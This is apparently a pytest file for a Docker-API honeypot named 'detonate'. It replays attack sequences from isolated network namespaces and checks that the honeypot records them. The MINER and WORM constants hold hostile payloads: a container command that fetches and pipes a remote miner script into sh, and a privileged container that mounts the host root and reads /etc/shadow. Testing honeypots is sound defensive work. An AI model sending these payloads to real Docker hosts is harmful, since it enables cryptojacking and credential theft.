"""Attack sequences from several source addresses, each client in a network namespace of its
own, against a real `detonate honeypot` process in another.

    [src1: 192.0.2.11]───┐
    [src2: 198.51.100.12]┼── veths ── br0 192.0.2.1 [srv: detonate honeypot :2375]
    [src3: 203.0.113.13]─┘

Every interface lives in a namespace the test made (veths are created inside them, never in
the host's), the addresses are documentation ranges, and deleting the namespaces removes it all.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from detonate.store import Store
from detonate.store.honeypot_models import HoneypotDeployment, HoneypotSession

SERVER = "192.0.2.1"
SOURCES = ("192.0.2.11", "198.51.100.12", "203.0.113.13")
PORT = 2375
OUR_LINKS = {"br0", "v0", "v1", "v2"}

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None, reason="needs root and iproute2"
)

# The replay client, run inside a source's namespace: plays a sequence as curl would send it
# and prints what it was answered.
CLIENT = r"""
import http.client, json, sys
server, sequence = sys.argv[1], json.loads(sys.argv[2])
answers = []
for method, path, body in sequence:
    connection = http.client.HTTPConnection(server, 2375, timeout=10)
    data = json.dumps(body).encode() if body is not None else None
    headers = {"User-Agent": "curl/7.88.1", "Content-Type": "application/json"}
    connection.request(method, path, body=data, headers=headers)
    response = connection.getresponse()
    answers.append([response.status, response.read().decode()])
    connection.close()
print(json.dumps(answers))
"""

RECON = [("GET", "/_ping", None), ("GET", "/v1.41/version", None), ("GET", "/v1.41/info", None)]
MINER = [
    ("POST", "/v1.41/images/create?fromImage=alpine&tag=3.19", None),
    (
        "POST",
        "/v1.41/containers/create?name=miner",
        {"Image": "alpine:3.19", "Cmd": ["sh", "-c", "wget -qO- http://pool.test/m.sh | sh"]},
    ),
    ("POST", "/v1.41/containers/miner/start", None),
    ("GET", "/v1.41/containers/json", None),
]
WORM = [
    ("POST", "/v1.41/images/create?fromImage=busybox&tag=1.36", None),
    (
        "POST",
        "/v1.41/containers/create?name=w",
        {
            "Image": "busybox:1.36",
            "Cmd": ["sh", "-c", "cat /host/etc/shadow"],
            "HostConfig": {"Privileged": True, "Binds": ["/:/host"]},
        },
    ),
    ("GET", "/v1.41/containers/json?all=1", None),
]


@dataclass
class AttackNet:
    server: str  # the honeypot's namespace
    sources: dict[str, str]  # address → namespace

    def exec(self, namespace: str, *command: str) -> list[str]:
        return ["ip", "netns", "exec", namespace, *command]


def ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=20)


@contextlib.contextmanager
def attack_network() -> Iterator[AttackNet]:
    tag = secrets.token_hex(3)
    server = f"dh-srv-{tag}"
    sources = {address: f"dh-src{i}-{tag}" for i, address in enumerate(SOURCES)}
    made: list[str] = []
    try:
        for namespace in (server, *sources.values()):
            ip("netns", "add", namespace)
            made.append(namespace)
            ip("-n", namespace, "link", "set", "lo", "up")
        ip("-n", server, "link", "add", "br0", "type", "bridge")
        ip("-n", server, "addr", "add", f"{SERVER}/24", "dev", "br0")
        ip("-n", server, "link", "set", "br0", "up")
        for i, (address, namespace) in enumerate(sources.items()):
            # created inside the server's namespace, its peer inside the source's
            ip("-n", server, "link", "add", f"v{i}", "type", "veth", "peer", "eth0", "netns",
               namespace)  # fmt: skip
            ip("-n", server, "link", "set", f"v{i}", "master", "br0", "up")
            ip("-n", namespace, "addr", "add", f"{address}/32", "dev", "eth0")
            ip("-n", namespace, "link", "set", "eth0", "up")
            ip("-n", namespace, "route", "add", f"{SERVER}/32", "dev", "eth0")
            ip("-n", server, "route", "replace", f"{address}/32", "dev", "br0")
        yield AttackNet(server, sources)
    finally:
        for namespace in made:
            subprocess.run(["ip", "netns", "del", namespace], capture_output=True, timeout=20)


@pytest.fixture
def attack_net() -> Iterator[AttackNet]:
    with attack_network() as net:
        yield net


def host_links() -> set[str]:
    listed = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True, timeout=20)
    return {line.split(":")[1].strip().split("@")[0] for line in listed.stdout.splitlines()}


def namespaces() -> str:
    return subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout


@pytest.mark.slow
def test_sequences_from_three_namespaced_sources_are_three_sessions(attack_net, tmp_path):
    db = f"sqlite:///{tmp_path / 'honeypot.db'}"
    command = attack_net.exec(
        attack_net.server,
        *(sys.executable, "-m", "detonate", "honeypot", "--db", db),
        *("--host", SERVER, "--ports", str(PORT), "--name", "hp-netns"),
    )
    honeypot = subprocess.Popen(
        command, stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"}
    )
    try:
        assert honeypot.stderr is not None
        line = honeypot.stderr.readline()
        assert re.search(rf"listening on {re.escape(SERVER)}:{PORT}$", line.strip()), line
        plays = dict(zip(SOURCES, (RECON, MINER, WORM), strict=True))
        answers = {}
        for address, sequence in plays.items():
            client = subprocess.run(
                attack_net.exec(
                    attack_net.sources[address], sys.executable, "-c", CLIENT, SERVER,
                    json.dumps(sequence),
                ),
                capture_output=True, text=True, timeout=60,
            )  # fmt: skip
            assert client.returncode == 0, client.stderr
            answers[address] = json.loads(client.stdout)
        honeypot.send_signal(signal.SIGINT)
        assert honeypot.wait(timeout=30) == 0
    finally:
        if honeypot.poll() is None:
            honeypot.kill()
            honeypot.wait()

    assert [status for status, _ in answers[SOURCES[0]]] == [200, 200, 200]
    assert [status for status, _ in answers[SOURCES[1]]] == [200, 201, 204, 200]
    # each source sees its own host: the worm's list has its container, not the miner's
    (worm_listed,) = json.loads(answers[SOURCES[2]][-1][1])
    assert worm_listed["Names"] == ["/w"]
    (miner_listed,) = json.loads(answers[SOURCES[1]][-1][1])
    assert miner_listed["Names"] == ["/miner"]

    store = Store.open(db)
    try:
        with Session(store.engine) as session:
            sessions = {s.source_ip: s for s in session.scalars(select(HoneypotSession))}
            deployments = list(session.scalars(select(HoneypotDeployment)))
            by_session = {s.id: s.source_ip for s in sessions.values()}
            deployed = {by_session[d.session_id]: d for d in deployments}
    finally:
        store.close()
    assert set(sessions) == set(SOURCES)
    assert [sessions[a].requests for a in SOURCES] == [3, 4, 3]
    assert {s.honeypot for s in sessions.values()} == {"hp-netns"}
    assert all(s.country == "" for s in sessions.values())  # documentation ranges
    assert set(deployed) == {SOURCES[1], SOURCES[2]}  # the probe deployed nothing
    assert deployed[SOURCES[1]].image == "alpine:3.19"
    assert json.loads(deployed[SOURCES[2]].escape_intent_json) == ["privileged", "host-mount:/"]


def test_the_attack_network_touches_no_host_interface_and_leaves_nothing() -> None:
    before = host_links()
    with attack_network() as net:
        names = [net.server, *net.sources.values()]
        assert all(name in namespaces() for name in names)
        # every veth and the bridge live in our namespaces (other tests may add their own links
        # to the host meanwhile: only ours are looked for)
        assert not OUR_LINKS & (host_links() - before)
        # the server answers a source (a refused port is an answer), over the bridge only
        probe = "import socket,sys\ntry: socket.create_connection((sys.argv[1], 9), 3)\n"
        probe += "except ConnectionRefusedError: print('answered')"
        reached = subprocess.run(
            net.exec(net.sources[SOURCES[1]], sys.executable, "-c", probe, SERVER),
            capture_output=True,
            text=True,
            timeout=20,
        )
        assert reached.stdout.strip() == "answered", reached.stderr
    assert not any(name in namespaces() for name in names)
